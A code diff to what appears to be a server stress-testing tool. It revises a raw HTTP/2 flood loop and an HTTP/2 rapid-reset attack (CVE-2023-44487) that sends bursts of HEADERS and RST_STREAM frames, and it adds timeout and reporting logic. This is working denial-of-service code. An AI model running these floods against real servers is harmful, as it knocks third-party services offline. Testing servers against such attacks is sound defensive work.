@@ -141,6 +141,8 @@ async function flood(makeFrames) {
     const socket = await rawHttp2()
     let bytes = 0
     while (!over() && !socket.destroyed && socket.writable) {
+      // The server closed its side: that is a cut, too.
+      if (socket.readableEnded) break
       const frames = makeFrames(bytes)
       bytes += frames.length
       if (!socket.write(frames)) {
@@ -148,13 +150,12 @@ async function flood(makeFrames) {
       }
       await sleep(1)
     }
-    note(socket.destroyed || !socket.writable ? 'connection cut' : 'flooded to the end')
+    note(!over() ? 'connection cut' : 'flooded to the end')
     socket.destroy()
     await sleep(20)
   })
 }
 
-let nextStream = 1
 const ATTACKS = {
   /** Bytes of no protocol on both ports, and as bodies. */
   async garbage() {
@@ -291,14 +292,11 @@ const ATTACKS = {
 
   /** Calls that are begun and reset at once (CVE-2023-44487). */
   async 'HTTP/2 resets'() {
-    nextStream = 1
+    const pair = (stream) => [h2Frame(1, 4, stream, CALL_HEADERS), h2Frame(3, 0, stream, Buffer.from([0, 0, 0, 8]))]
+    const pairBytes = Buffer.concat(pair(1)).length
     await flood((bytes) => {
-      if (bytes === 0) nextStream = 1
-      const frames = []
-      for (let i = 0; i < 100; i++, nextStream += 2) {
-        frames.push(h2Frame(1, 4, nextStream, CALL_HEADERS), h2Frame(3, 0, nextStream, Buffer.from([0, 0, 0, 8])))
-      }
-      return Buffer.concat(frames)
+      const first = (bytes / pairBytes) * 2 + 1
+      return Buffer.concat(Array.from({ length: 100 }, (_, i) => pair(first + i * 2)).flat())
     })
   },
 
@@ -334,8 +332,14 @@ const ATTACKS = {
 
 const attack = ATTACKS[name]
 if (attack === undefined) throw new Error(`no attack ${name}; there are: ${Object.keys(ATTACKS).join(', ')}`)
+// Whatever a server does, an attack ends.
+setTimeout(() => report(), Number(seconds) * 1000 + 15_000)
 process.on('uncaughtException', (error) => note(`attacker: ${error.message}`))
 await attack()
-const most = [...answers].sort((a, b) => b[1] - a[1]).slice(0, 20)
-console.log(JSON.stringify(Object.fromEntries(most)))
-process.exit(0)
+report()
+
+function report() {
+  const most = [...answers].sort((a, b) => b[1] - a[1]).slice(0, 20)
+  console.log(JSON.stringify(Object.fromEntries(most)))
+  process.exit(0)
+}
